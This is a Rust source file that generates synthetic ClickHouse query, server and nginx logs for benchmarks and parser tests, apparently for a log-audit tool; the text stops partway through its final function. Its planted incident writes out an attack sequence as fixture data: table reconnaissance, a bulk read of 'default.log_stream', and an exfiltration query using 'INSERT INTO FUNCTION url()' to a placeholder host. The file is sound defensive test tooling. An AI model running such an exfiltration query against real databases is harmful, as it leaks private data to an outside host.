//! Synthetic ClickHouse logs of any size, for benches and tests: `system.query_log` exports
//! (TSVWithNames, CSVWithNames, JSONEachRow with the 26.9 column set and value shapes of the
//! genuine fixtures), server text logs (`clickhouse-server.log`) and nginx access logs
//! (combined). Hundreds of clients over days with a diurnal load curve, QueryStart/QueryFinish
//! pairs that interleave, and optionally one planted incident modelled on the DeepSeek
//! exposure: an external `default` listing tables, reading `log_stream` in bulk and pushing it
//! out with `INSERT INTO FUNCTION url(…)`. Deterministic for a given seed: no clock, no env.
//!
//! ```text
//! cargo run --release --example generate -- --kind query_log --format tsv \
//!     --size 1G --clients 300 --days 3 --seed 7 --incident --out /tmp/ql.tsv
//! ```
//!
//! Options: `--kind query_log|text_log|access_log`, `--format tsv|csv|json` (query_log),
//! `--size N[K|M|G]` (approximate bytes) or `--rows N` (executions / lines), `--clients N`,
//! `--days N`, `--seed N`, `--incident`, `--out PATH` (default stdout).

#![allow(clippy::print_stderr, clippy::indexing_slicing, missing_docs)]

use std::fmt::Write as _;
use std::io::{self, BufWriter, Write};

/// 2025-01-27 00:00:00 UTC: the start of every generated log.
const EPOCH: i64 = 1_737_936_000;
/// The attacker of the planted incident (as in the genuine fixtures).
const ATTACKER: &str = "198.51.100.7";
/// Where the incident's `INSERT INTO FUNCTION url(…)` sends data.
const DROP_HOST: &str = "203.0.113.9";

/// SplitMix64: small, fast, and the same on every platform.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
    fn uuid(&mut self) -> String {
        let a = self.next();
        let b = self.next();
        format!(
            "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
            a >> 32,
            (a >> 16) & 0xffff,
            a & 0xfff,
            (b >> 48) & 0x3fff | 0x8000,
            b & 0xffff_ffff_ffff
        )
    }
}

/// Which log to write.
#[derive(Clone, Copy, Debug, PartialEq)]
#[allow(clippy::enum_variant_names)]
pub enum Kind {
    QueryLog,
    TextLog,
    AccessLog,
}

/// query_log export format.
#[derive(Clone, Copy, Debug, PartialEq)]
pub enum Format {
    Tsv,
    Csv,
    Json,
}

/// What to generate.
#[derive(Debug)]
pub struct Opts {
    pub kind: Kind,
    pub format: Format,
    /// Approximate bytes to write.
    pub size: Option<u64>,
    /// Query executions to write (wins over `size`).
    pub rows: Option<u64>,
    pub clients: usize,
    pub days: u32,
    pub seed: u64,
    /// Plant the incident in the middle day.
    pub incident: bool,
    pub out: Option<String>,
}

fn parse_size(s: &str) -> Result<u64, String> {
    let (num, mult) = match s.as_bytes().last() {
        Some(b'K' | b'k') => (&s[..s.len() - 1], 1u64 << 10),
        Some(b'M' | b'm') => (&s[..s.len() - 1], 1 << 20),
        Some(b'G' | b'g') => (&s[..s.len() - 1], 1 << 30),
        _ => (s, 1),
    };
    num.parse::<u64>()
        .map(|n| n * mult)
        .map_err(|e| format!("bad size {s:?}: {e}"))
}

fn parse_args() -> Result<Opts, String> {
    let mut o = Opts {
        kind: Kind::QueryLog,
        format: Format::Tsv,
        size: None,
        rows: None,
        clients: 300,
        days: 3,
        seed: 1,
        incident: false,
        out: None,
    };
    let mut args = std::env::args().skip(1);
    while let Some(a) = args.next() {
        let mut val = || args.next().ok_or(format!("{a} needs a value"));
        match a.as_str() {
            "--kind" => {
                o.kind = match val()?.as_str() {
                    "query_log" => Kind::QueryLog,
                    "text_log" => Kind::TextLog,
                    "access_log" => Kind::AccessLog,
                    k => return Err(format!("unknown kind {k}")),
                }
            }
            "--format" => {
                o.format = match val()?.to_ascii_lowercase().as_str() {
                    "tsv" | "tsvwithnames" => Format::Tsv,
                    "csv" | "csvwithnames" => Format::Csv,
                    "json" | "jsoneachrow" => Format::Json,
                    f => return Err(format!("unknown format {f}")),
                }
            }
            "--size" => o.size = Some(parse_size(&val()?)?),
            "--rows" => o.rows = Some(val()?.parse().map_err(|e| format!("--rows: {e}"))?),
            "--clients" => o.clients = val()?.parse().map_err(|e| format!("--clients: {e}"))?,
            "--days" => o.days = val()?.parse().map_err(|e| format!("--days: {e}"))?,
            "--seed" => o.seed = val()?.parse().map_err(|e| format!("--seed: {e}"))?,
            "--incident" => o.incident = true,
            "--out" => o.out = Some(val()?),
            "-h" | "--help" => return Err(USAGE.to_owned()),
            _ => return Err(format!("unknown option {a}\n{USAGE}")),
        }
    }
    if o.size.is_none() && o.rows.is_none() {
        o.rows = Some(10_000);
    }
    o.clients = o.clients.max(1);
    o.days = o.days.max(1);
    Ok(o)
}

const USAGE: &str =
    "usage: generate [--kind query_log|text_log|access_log] [--format tsv|csv|json] \
[--size N[K|M|G] | --rows N] [--clients N] [--days N] [--seed N] [--incident] [--out PATH]";

fn main() {
    let opts = match parse_args() {
        Ok(o) => o,
        Err(e) => {
            eprintln!("{e}");
            std::process::exit(2);
        }
    };
    let result = match &opts.out {
        Some(p) => std::fs::File::create(p)
            .and_then(|f| generate(&opts, &mut BufWriter::with_capacity(1 << 20, f))),
        None => generate(
            &opts,
            &mut BufWriter::with_capacity(1 << 20, io::stdout().lock()),
        ),
    };
    if let Err(e) = result {
        if e.kind() != io::ErrorKind::BrokenPipe {
            eprintln!("generate: {e}");
            std::process::exit(1);
        }
    }
}

// ───────────────────────────── time ─────────────────────────────

/// Maps progress through the output (0..1) to a time, so the load follows a day curve
/// (quiet at 04:00 UTC, busiest at 14:00) whatever the size asked for.
struct Clock {
    cum: Vec<f64>,
}

impl Clock {
    fn new(days: u32) -> Self {
        let minutes = days as usize * 1440;
        let mut cum = Vec::with_capacity(minutes + 1);
        let mut total = 0.0;
        cum.push(0.0);
        for m in 0..minutes {
            let hour = (m % 1440) as f64 / 60.0;
            let rate = 1.0 + 0.85 * ((hour - 8.0) / 24.0 * std::f64::consts::TAU).sin();
            let weekday = ((m / 1440) % 7) < 5;
            total += rate * if weekday { 1.0 } else { 0.45 };
            cum.push(total);
        }
        for c in &mut cum {
            *c /= total;
        }
        Self { cum }
    }

    /// The progress at 03:10 UTC of the middle day, when nobody is watching.
    fn night_of_middle_day(&self) -> f64 {
        let minute = (self.cum.len() - 1) / 1440 / 2 * 1440 + 190;
        self.cum[minute.min(self.cum.len() - 1)]
    }

    /// Microseconds since the Unix epoch at progress `f`.
    fn at(&self, f: f64) -> i64 {
        let f = f.clamp(0.0, 1.0);
        let i = self
            .cum
            .partition_point(|c| *c <= f)
            .clamp(1, self.cum.len() - 1);
        let (lo, hi) = (self.cum[i - 1], self.cum[i]);
        let frac = if hi > lo { (f - lo) / (hi - lo) } else { 0.0 };
        EPOCH * 1_000_000 + ((i - 1) as f64 * 60e6 + frac * 60e6) as i64
    }
}

/// Civil date and time of a Unix second (UTC), proleptic Gregorian.
fn civil(secs: i64) -> (i64, u32, u32, u32, u32, u32) {
    let days = secs.div_euclid(86_400);
    let sod = secs.rem_euclid(86_400) as u32;
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    let y = yoe + era * 400 + i64::from(m <= 2);
    (y, m, d, sod / 3600, sod / 60 % 60, sod % 60)
}

fn date(us: i64) -> String {
    let (y, m, d, ..) = civil(us.div_euclid(1_000_000));
    format!("{y:04}-{m:02}-{d:02}")
}

fn datetime(us: i64) -> String {
    let (y, m, d, h, mi, s) = civil(us.div_euclid(1_000_000));
    format!("{y:04}-{m:02}-{d:02} {h:02}:{mi:02}:{s:02}")
}

fn datetime_us(us: i64) -> String {
    format!("{}.{:06}", datetime(us), us.rem_euclid(1_000_000))
}

// ───────────────────────────── workload ─────────────────────────────

/// Who sends queries.
struct Client {
    user: String,
    ip: String,
    port: u16,
    http: bool,
    agent: &'static str,
    role: Role,
}

#[derive(Clone, Copy, PartialEq)]
enum Role {
    Dashboard,
    Etl,
    Analyst,
    Service,
    Partner,
}

fn clients(n: usize, rng: &mut Rng) -> Vec<Client> {
    let mut out = Vec::with_capacity(n);
    for i in 0..n {
        let role = match i % 20 {
            0..=5 => Role::Dashboard,
            6..=8 => Role::Etl,
            9..=13 => Role::Analyst,
            14..=18 => Role::Service,
            _ => Role::Partner,
        };
        let (user, http, agent) = match role {
            Role::Dashboard => ("grafana".to_owned(), true, "Grafana/10.2.3"),
            Role::Etl => (format!("etl_{}", i % 7), false, ""),
            Role::Analyst => (format!("analyst_{i}"), false, ""),
            Role::Service => (
                format!("svc_{}", i % 13),
                true,
                "clickhouse-go/2.30.0 (lv:go/1.23.4; os:linux)",
            ),
            Role::Partner => (format!("partner_{}", i % 5), true, "python-requests/2.32.3"),
        };
        let ip = if role == Role::Partner {
            format!("192.0.2.{}", 1 + i % 250)
        } else {
            format!(
                "10.{}.{}.{}",
                20 + (i / 62_500) % 200,
                (i / 250) % 250,
                1 + i % 250
            )
        };
        out.push(Client {
            user,
            ip,
            port: 30_000 + rng.below(30_000) as u16,
            http,
            agent,
            role,
        });
    }
    out
}

/// One query execution, whatever log it is written to.
struct Exec {
    start_us: i64,
    duration_ms: u64,
    user: String,
    ip: String,
    port: u16,
    http: bool,
    agent: String,
    query_id: String,
    query: String,
    kind: &'static str,
    databases: Vec<String>,
    tables: Vec<String>,
    columns: Vec<String>,
    functions: Vec<&'static str>,
    aggregates: Vec<&'static str>,
    table_functions: Vec<&'static str>,
    read_rows: u64,
    read_bytes: u64,
    written_rows: u64,
    written_bytes: u64,
    result_rows: u64,
    result_bytes: u64,
    memory: u64,
    exception_code: i32,
    exception: String,
}

const SERVICES: &[&str] = &[
    "chat-api", "auth", "billing", "search", "gateway", "notifier",
];
const COUNTRIES: &[&str] = &["DE", "US", "FR", "JP", "BR", "IN", "GB", "CN"];

fn background(c: &Client, start_us: i64, rng: &mut Rng) -> Exec {
    let s = |v: &[&str]| v.iter().map(|x| (*x).to_owned()).collect::<Vec<_>>();
    let mut e = Exec {
        start_us,
        duration_ms: 1 + rng.below(40),
        user: c.user.clone(),
        ip: c.ip.clone(),
        port: c.port,
        http: c.http,
        agent: c.agent.to_owned(),
        query_id: rng.uuid(),
        query: String::new(),
        kind: "Select",
        databases: s(&["app"]),
        tables: s(&["app.orders"]),
        columns: Vec::new(),
        functions: Vec::new(),
        aggregates: Vec::new(),
        table_functions: Vec::new(),
        read_rows: 0,
        read_bytes: 0,
        written_rows: 0,
        written_bytes: 0,
        result_rows: 0,
        result_bytes: 0,
        memory: 50_000 + rng.below(5_000_000),
        exception_code: 0,
        exception: String::new(),
    };
    match c.role {
        Role::Dashboard => match rng.below(3) {
            0 => {
                e.query = "SELECT toStartOfHour(created) AS h, count() AS orders, sum(amount) AS revenue FROM app.orders GROUP BY h ORDER BY h DESC LIMIT 24 FORMAT JSON".to_owned();
                e.columns = s(&["app.orders.amount", "app.orders.created"]);
                e.functions = vec!["toStartOfHour"];
                e.aggregates = vec!["count", "sum"];
                e.result_rows = 24;
            }
            1 => {
                e.query = "SELECT country, round(sum(amount), 2) AS revenue FROM app.orders GROUP BY country ORDER BY revenue DESC LIMIT 5".to_owned();
                e.columns = s(&["app.orders.amount", "app.orders.country"]);
                e.functions = vec!["round"];
                e.aggregates = vec!["sum"];
                e.result_rows = 5;
            }
            _ => {
                e.query = format!(
                    "SELECT timestamp, span_name FROM default.log_stream WHERE _service = '{}' ORDER BY timestamp DESC LIMIT 100",
                    rng.pick(SERVICES)
                );
                e.databases = s(&["default"]);
                e.tables = s(&["default.log_stream"]);
                e.columns = s(&[
                    "default.log_stream._service",
                    "default.log_stream.span_name",
                    "default.log_stream.timestamp",
                ]);
                e.result_rows = 100;
            }
        },
        Role::Etl => {
            let n = 1_000 + rng.below(20_000);
            if rng.below(2) == 0 {
                e.query = "INSERT INTO app.orders FORMAT TabSeparated".to_owned();
            } else {
                e.query = "INSERT INTO default.log_stream FORMAT TabSeparated".to_owned();
                e.databases = s(&["default"]);
                e.tables = s(&["default.log_stream"]);
            }
            e.kind = "Insert";
            e.written_rows = n;
            e.written_bytes = n * 90;
            e.duration_ms = 20 + rng.below(400);
        }
        Role::Analyst => match rng.below(5) {
            0 => {
                e.query = format!(
                    "SELECT count() FROM app.orders WHERE status = '{}' AND created >= '{}'",
                    rng.pick(&["paid", "refunded", "open"]),
                    date(start_us - rng.below(30) as i64 * 86_400_000_000)
                );
                e.aggregates = vec!["count"];
                e.result_rows = 1;
            }
            1 => {
                e.query = "SELECT u.plan, count() FROM app.orders AS o LEFT JOIN app.users AS u USING user_id GROUP BY u.plan".to_owned();
                e.tables = s(&["app.orders", "app.users"]);
                e.aggregates = vec!["count"];
                e.result_rows = 3;
            }
            2 => {
                e.query = format!(
                    "SELECT * FROM app.orders WHERE country = '{}' AND amount > {} ORDER BY created DESC LIMIT 50",
                    rng.pick(COUNTRIES),
                    rng.below(500)
                );
                e.result_rows = 50;
            }
            3 => {
                // A typo: rejected before it starts.
                e.query = format!(
                    "SELECT * FROM app.order WHERE order_id = {}",
                    rng.below(1_000_000)
                );
                e.tables = Vec::new();
                e.exception_code = 60;
                e.exception = "Code: 60. DB::Exception: Unknown table expression identifier 'app.order' in scope SELECT * FROM app.order. (UNKNOWN_TABLE) (version 26.9.2.1 (official build))".to_owned();
            }
            _ => {
                e.query =
                    "SELECT name, engine FROM system.tables WHERE database = 'app'".to_owned();
                e.databases = s(&["system"]);
                e.tables = s(&["system.tables"]);
                e.result_rows = 3;
            }
        },
        Role::Service => {
            e.query = format!(
                "SELECT user_id, email, plan FROM app.users WHERE user_id = {}",
                rng.below(5_000_000)
            );
            e.tables = s(&["app.users"]);
            e.columns = s(&["app.users.email", "app.users.plan", "app.users.user_id"]);
            e.result_rows = 1;
        }
        Role::Partner => {
            e.query = format!(
                "SELECT toDate(created) AS d, count() FROM app.orders WHERE country = '{}' GROUP BY d ORDER BY d DESC LIMIT 7",
                rng.pick(COUNTRIES)
            );
            e.functions = vec!["toDate"];
            e.aggregates = vec!["count"];
            e.result_rows = 7;
        }
    }
    if e.kind == "Select" && e.exception_code == 0 {
        e.read_rows = 100 + rng.below(2_000_000);
        e.read_bytes = e.read_rows * (8 + rng.below(40));
        e.result_bytes = 64 + e.result_rows * (20 + rng.below(60));
    }
    e
}

/// The planted incident: reconnaissance, a bulk read of `log_stream` and an exfiltration
/// through `url()`, all by the passwordless `default` from an external address.
fn incident(start_us: i64, rng: &mut Rng) -> Vec<Exec> {
    let mk =
        |query: &str, kind: &'static str, tables: &[&str], offset_s: i64, rng: &mut Rng| Exec {
            start_us: start_us + offset_s * 1_000_000 + rng.below(900_000) as i64,
            duration_ms: 2 + rng.below(20),
            user: "default".to_owned(),
            ip: ATTACKER.to_owned(),
            port: 41_000 + rng.below(2_000) as u16,
            http: true,
            agent: "python-requests/2.31.0".to_owned(),
            query_id: rng.uuid(),
            query: query.to_owned(),
            kind,
            databases: vec!["default".to_owned()],
            tables: tables.iter().map(|t| (*t).to_owned()).collect(),
            columns: Vec::new(),
            functions: Vec::new(),
            aggregates: Vec::new(),
            table_functions: Vec::new(),
            read_rows: 1,
            read_bytes: 100,
            written_rows: 0,
            written_bytes: 0,
            result_rows: 1,
            result_bytes: 200,
            memory: 1_000_000,
            exception_code: 0,
            exception: String::new(),
        };
    let mut out = vec![
        mk("SHOW TABLES", "Show", &[], 0, rng),
        mk(
            "SELECT name FROM system.tables WHERE database = 'default'",
            "Select",
            &["system.tables"],
            3,
            rng,
        ),
        mk(
            "SELECT count() FROM default.log_stream",
            "Select",
            &["default.log_stream"],
            9,
            rng,
        ),
    ];
    let mut bulk = mk(
        "SELECT * FROM default.log_stream",
        "Select",
        &["default.log_stream"],
        15,
        rng,
    );
    bulk.read_rows = 48_000_000;
    bulk.read_bytes = 9_100_000_000;
    bulk.result_rows = 48_000_000;
    bulk.result_bytes = 8_600_000_000;
    bulk.duration_ms = 95_000;
    out.push(bulk);
    let mut exfil = mk(
        &format!("INSERT INTO FUNCTION url('http://{DROP_HOST}:8000/exfil/log_stream.tsv', 'TSV', 'timestamp DateTime, span_name String, _service String') SELECT timestamp, span_name, _service FROM default.log_stream"),
        "Insert",
        &["default.log_stream"],
        140,
        rng,
    );
    exfil.table_functions = vec!["url"];
    exfil.read_rows = 48_000_000;
    exfil.read_bytes = 2_100_000_000;
    exfil.written_rows = 48_000_000;
    exfil.written_bytes = 2_300_000_000;
    exfil.result_rows = 0;
    exfil.result_bytes = 0;
    exfil.duration_ms = 61_000;
    out.push(exfil);
    out
}

/// Produces executions in time order until the size or row target is reached.
struct Workload {
    rng: Rng,
    clock: Clock,
    clients: Vec<Client>,
    incident_at: Option<f64>,
}

impl Workload {
    fn new(o: &Opts) -> Self {
        let mut rng = Rng(o.seed);
        let clients = clients(o.clients, &mut rng);
        let clock = Clock::new(o.days);
        Self {
            rng,
            clients,
            incident_at: o.incident.then(|| clock.night_of_middle_day()),
            clock,
        }
    }

    /// The next executions at progress `f` (usually one; the incident is several).
    fn next(&mut self, f: f64) -> Vec<Exec> {
        let t = self.clock.at(f);
        if let Some(at) = self.incident_at {
            if f >= at {
                self.incident_at = None;
                return incident(t, &mut self.rng);
            }
        }
        let c = &self.clients[self.rng.below(self.clients.len() as u64) as usize];
        vec![background(c, t, &mut self.rng)]
    }
}

// ───────────────────────────── query_log ─────────────────────────────

/// One cell of a query_log row, typed as ClickHouse types it.
enum V {
    S(String),
    U(u64),
    I(i64),
    /// `Array(String)`
    A(Vec<String>),
    /// `Array(UInt64)`
    AU(Vec<u64>),
    /// `Map(String, UInt64)`
    MU(Vec<(&'static str, u64)>),
    /// `Map(String, String)`
    MS(Vec<(&'static str, String)>),
    /// `transaction_id`, a `Tuple(UInt64, UInt64, UUID)`
    Txn,
}

/// The 26.9 column order, as the library knows it (read off a real 26.9.2.1 engine; the
/// fixtures under fixtures/query_log/26.9 are that engine's own output, so a wrong list
/// fails the parser's tests, not only this generator's).
const COLUMNS_26: &[&str] = chaudit::parse::DEFAULT_COLUMNS;

fn fnv(s: &str) -> u64 {
    s.bytes().fold(0xcbf2_9ce4_8422_2325, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3)
    })
}

/// The cells of one row, in [`COLUMNS_26`] order.
fn row(e: &Exec, row_type: &str, rng: &mut Rng) -> Vec<V> {
    use V::{A, AU, I, MS, MU, S, U};
    let finished = row_type != "QueryStart";
    let end_us = if finished {
        e.start_us + e.duration_ms as i64 * 1000
    } else {
        e.start_us
    };
    let f = |v: u64| if finished { v } else { 0 };
    let addr = format!("::ffff:{}", e.ip);
    let mut privileges: Vec<String> = e.tables.iter().map(|t| format!("SELECT ON {t}")).collect();
    if e.kind == "Insert" {
        privileges = e.tables.iter().map(|t| format!("INSERT ON {t}")).collect();
    }
    let profile = if finished {
        vec![
            ("Query", 1),
            ("SelectQuery", u64::from(e.kind == "Select")),
            ("InitialQuery", 1),
            ("QueriesWithSubqueries", 1),
            ("FileOpen", rng.below(40)),
            ("ReadBufferFromFileDescriptorReadBytes", e.read_bytes / 3),
            ("ReadCompressedBytes", e.read_bytes / 4),
            ("CompressedReadBufferBlocks", rng.below(500)),
            ("IOBufferAllocs", rng.below(100)),
            ("IOBufferAllocBytes", rng.below(10_000_000)),
            ("MarkCacheHits", rng.below(50)),
            ("SelectedParts", rng.below(20)),
            ("SelectedRanges", rng.below(20)),
            ("SelectedMarks", rng.below(2000)),
            ("SelectedRows", e.read_rows),
            ("SelectedBytes", e.read_bytes),
            ("ContextLock", rng.below(200)),
            ("RealTimeMicroseconds", e.duration_ms * 1000),
            ("UserTimeMicroseconds", e.duration_ms * 700),
            ("SystemTimeMicroseconds", e.duration_ms * 90),
            ("SoftPageFaults", rng.below(3000)),
            ("OSCPUVirtualTimeMicroseconds", e.duration_ms * 800),
            ("NetworkSendBytes", e.result_bytes),
            ("LogTrace", 1),
            ("LogDebug", 4),
            ("LoggerElapsedNanoseconds", rng.below(200_000)),
        ]
    } else {
        Vec::new()
    };
    let settings = vec![
        ("max_threads", "8".to_owned()),
        ("use_uncompressed_cache", "0".to_owned()),
        ("load_balancing", "random".to_owned()),
        ("log_queries", "1".to_owned()),
        ("max_memory_usage", "10000000000".to_owned()),
    ];
    let (iface, method) = if e.http {
        ("HTTP", if e.kind == "Insert" { "POST" } else { "GET" })
    } else {
        ("TCP", "UNKNOWN")
    };
    let exception_before = e.exception_code != 0;
    vec![
        S("ch-prod-1".into()),
        S("26.9.2.1".into()),
        S("x86_64".into()),
        S(row_type.into()),
        S(date(end_us)),
        S(datetime(end_us)),
        S(datetime_us(end_us)),
        S(datetime(e.start_us)),
        S(datetime_us(e.start_us)),
        U(f(e.duration_ms)),
        U(f(e.read_rows)),
        U(f(e.read_bytes)),
        U(f(e.written_rows)),
        U(f(e.written_bytes)),
        U(f(e.result_rows)),
        U(f(e.result_bytes)),
        U(f(e.memory)),
        S("default".into()),
        S(e.query.clone()),
        S(String::new()),
        U(fnv(&e.query)),
        S(e.kind.into()),
        A(e.databases.clone()),
        A(e.tables.clone()),
        A(e.columns.clone()),
        A(Vec::new()),
        A(Vec::new()),
        A(Vec::new()),
        I(i64::from(e.exception_code)),
        S(e.exception.clone()),
        S(String::new()),
        U(1),
        S(addr.clone()),
        U(u64::from(e.port)),
        S(e.user.clone()),
        S(e.query_id.clone()),
        S(addr.clone()),
        U(u64::from(e.port)),
        S(e.user.clone()),
        S(e.query_id.clone()),
        S(addr),
        U(u64::from(e.port)),
        S(datetime(e.start_us)),
        S(datetime_us(e.start_us)),
        S(e.user.clone()),
        S(iface.into()),
        U(0),
        S(String::new()),
        S(if e.http {
            String::new()
        } else {
            "worker-3".into()
        }),
        S(if e.http {
            String::new()
        } else {
            "ClickHouse client".into()
        }),
        S(String::new()),
        U(if e.http { 0 } else { 54_478 }),
        U(if e.http { 0 } else { 26 }),
        U(if e.http { 0 } else { 9 }),
        U(if e.http { 0 } else { 2 }),
        U(0),
        U(0),
        S(method.into()),
        S(e.agent.clone()),
        S(String::new()),
        S(String::new()),
        S(String::new()),
        U(0),
        U(54_515),
        S(if e.http {
            "dynamic_query_handler".into()
        } else {
            String::new()
        }),
        S(if e.http {
            "/?database=default".into()
        } else {
            String::new()
        }),
        S(String::new()),
        AU(if finished {
            vec![20_000 + rng.below(999), 20_000 + rng.below(999)]
        } else {
            Vec::new()
        }),
        U(if finished { 2 } else { 0 }),
        MU(profile),
        MS(settings),
        A(e.aggregates.iter().map(|x| (*x).to_owned()).collect()),
        A(Vec::new()),
        A(Vec::new()),
        A(if finished {
            vec!["String".into(), "DateTime".into(), "UInt64".into()]
        } else {
            Vec::new()
        }),
        A(Vec::new()),
        A(if e.query.contains("FORMAT JSON") {
            vec!["JSON".into()]
        } else {
            Vec::new()
        }),
        A(e.functions.iter().map(|x| (*x).to_owned()).collect()),
        A(if finished && !exception_before {
            vec!["MergeTree".into()]
        } else {
            Vec::new()
        }),
        A(e.table_functions.iter().map(|x| (*x).to_owned()).collect()),
        A(Vec::new()),
        A(Vec::new()),
        A(Vec::new()),
        A(if finished { privileges } else { Vec::new() }),
        A(Vec::new()),
        V::Txn,
        S(if finished {
            "None".into()
        } else {
            "Unknown".into()
        }),
        MU(Vec::new()),
        U(0),
    ]
}

fn tsv_escape(out: &mut Vec<u8>, s: &str) {
    for b in s.bytes() {
        match b {
            b'\\' => out.extend_from_slice(b"\\\\"),
            b'\t' => out.extend_from_slice(b"\\t"),
            b'\n' => out.extend_from_slice(b"\\n"),
            b'\'' => out.extend_from_slice(b"\\'"),
            _ => out.push(b),
        }
    }
}

fn json_escape(out: &mut Vec<u8>, s: &str) {
    out.push(b'"');
    for b in s.bytes() {
        match b {
            b'"' => out.extend_from_slice(b"\\\""),
            b'\\' => out.extend_from_slice(b"\\\\"),
            b'/' => out.extend_from_slice(b"\\/"),
            b'\n' => out.extend_from_slice(b"\\n"),
            b'\t' => out.extend_from_slice(b"\\t"),
            _ => out.push(b),
        }
    }
    out.push(b'"');
}

/// The ClickHouse text form of a composite value (`['a','b']`, `{'k':1}`), as TSV shows it.
fn composite(v: &V) -> String {
    let q = |s: &str| format!("'{}'", s.replace('\\', "\\\\").replace('\'', "\\'"));
    match v {
        V::A(xs) => format!(
            "[{}]",
            xs.iter().map(|x| q(x)).collect::<Vec<_>>().join(",")
        ),
        V::AU(xs) => format!(
            "[{}]",
            xs.iter().map(u64::to_string).collect::<Vec<_>>().join(",")
        ),
        V::MU(kv) => format!(
            "{{{}}}",
            kv.iter()
                .map(|(k, v)| format!("{}:{v}", q(k)))
                .collect::<Vec<_>>()
                .join(",")
        ),
        V::MS(kv) => format!(
            "{{{}}}",
            kv.iter()
                .map(|(k, v)| format!("{}:{}", q(k), q(v)))
                .collect::<Vec<_>>()
                .join(",")
        ),
        V::Txn => "(0,0,'00000000-0000-0000-0000-000000000000')".to_owned(),
        V::S(s) => s.clone(),
        V::U(n) => n.to_string(),
        V::I(n) => n.to_string(),
    }
}

fn write_row(out: &mut Vec<u8>, format: Format, cells: &[V]) {
    match format {
        Format::Tsv => {
            for (i, c) in cells.iter().enumerate() {
                if i > 0 {
                    out.push(b'\t');
                }
                match c {
                    V::S(s) => tsv_escape(out, s),
                    other => out.extend_from_slice(composite(other).as_bytes()),
                }
            }
        }
        Format::Csv => {
            for (i, c) in cells.iter().enumerate() {
                if i > 0 {
                    out.push(b',');
                }
                match c {
                    V::U(n) => {
                        let _ = write!(Buf(out), "{n}");
                    }
                    V::I(n) => {
                        let _ = write!(Buf(out), "{n}");
                    }
                    // CSV spreads a tuple over several fields.
                    V::Txn => {
                        out.extend_from_slice(b"0,0,\"00000000-0000-0000-0000-000000000000\"")
                    }
                    V::S(s) => csv_quote(out, s),
                    other => csv_quote(out, &composite(other)),
                }
            }
        }
        Format::Json => {
            out.push(b'{');
            for (i, (c, name)) in cells.iter().zip(COLUMNS_26).enumerate() {
                if i > 0 {
                    out.push(b',');
                }
                json_escape(out, name);
                out.push(b':');
                match c {
                    V::S(s) => json_escape(out, s),
                    V::U(n) => {
                        let _ = write!(Buf(out), "{n}");
                    }
                    V::I(n) => {
                        let _ = write!(Buf(out), "{n}");
                    }
                    V::A(xs) => {
                        out.push(b'[');
                        for (j, x) in xs.iter().enumerate() {
                            if j > 0 {
                                out.push(b',');
                            }
                            json_escape(out, x);
                        }
                        out.push(b']');
                    }
                    V::AU(xs) => {
                        let _ = write!(
                            Buf(out),
                            "[{}]",
                            xs.iter().map(u64::to_string).collect::<Vec<_>>().join(",")
                        );
                    }
                    V::MU(kv) => {
                        out.push(b'{');
                        for (j, (k, v)) in kv.iter().enumerate() {
                            if j > 0 {
                                out.push(b',');
                            }
                            json_escape(out, k);
                            let _ = write!(Buf(out), ":{v}");
                        }
                        out.push(b'}');
                    }
                    V::MS(kv) => {
                        out.push(b'{');
                        for (j, (k, v)) in kv.iter().enumerate() {
                            if j > 0 {
                                out.push(b',');
                            }
                            json_escape(out, k);
                            out.push(b':');
                            json_escape(out, v);
                        }
                        out.push(b'}');
                    }
                    V::Txn => {
                        out.extend_from_slice(b"[0,0,\"00000000-0000-0000-0000-000000000000\"]")
                    }
                }
            }
            out.push(b'}');
        }
    }
    out.push(b'\n');
}

fn csv_quote(out: &mut Vec<u8>, s: &str) {
    out.push(b'"');
    for b in s.bytes() {
        if b == b'"' {
            out.push(b'"');
        }
        out.push(b);
    }
    out.push(b'"');
}

/// `fmt::Write` into a byte vector.
struct Buf<'a>(&'a mut Vec<u8>);

impl std::fmt::Write for Buf<'_> {
    fn write_str(&mut self, s: &str) -> std::fmt::Result {
        self.0.extend_from_slice(s.as_bytes());
        Ok(())
    }
}

// ───────────────────────────── the writers ─────────────────────────────

/// Writes until the target; `emit` appends the lines of one execution and returns how many.
fn drive(
    o: &Opts,
    w: &mut dyn Write,
    header: &[u8],
    mut emit: impl FnMut(&mut Vec<u8>, &Exec, &mut Rng, &mut Vec<(i64, Vec<u8>)>),
) -> io::Result<()> {
    let mut wl = Workload::new(o);
    let mut buf = Vec::with_capacity(1 << 16);
    buf.extend_from_slice(header);
    let mut written = 0u64;
    let mut n = 0u64;
    // Lines that belong later in time (QueryFinish rows), released once time passes them.
    let mut later: Vec<(i64, Vec<u8>)> = Vec::new();
    loop {
        let f = match (o.rows, o.size) {
            (Some(rows), _) => n as f64 / rows as f64,
            (None, Some(size)) => (written + buf.len() as u64) as f64 / size as f64,
            (None, None) => 1.0,
        };
        if f >= 1.0 {
            break;
        }
        for e in wl.next(f) {
            later.sort_by_key(|(t, _)| std::cmp::Reverse(*t));
            while later.last().is_some_and(|(t, _)| *t <= e.start_us) {
                if let Some((_, line)) = later.pop() {
                    buf.extend_from_slice(&line);
                }
            }
            emit(&mut buf, &e, &mut wl.rng, &mut later);
            n += 1;
        }
        if buf.len() >= 1 << 16 {
            w.write_all(&buf)?;
            written += buf.len() as u64;
            buf.clear();
        }
    }
    later.sort_by_key(|(t, _)| *t);
    for (_, line) in later {
        buf.extend_from_slice(&line);
    }
    w.write_all(&buf)?;
    w.flush()
}

/// Writes the log `o` describes.
pub fn generate(o: &Opts, w: &mut dyn Write) -> io::Result<()> {
    match o.kind {
        Kind::QueryLog => {
            let mut header = Vec::new();
            match o.format {
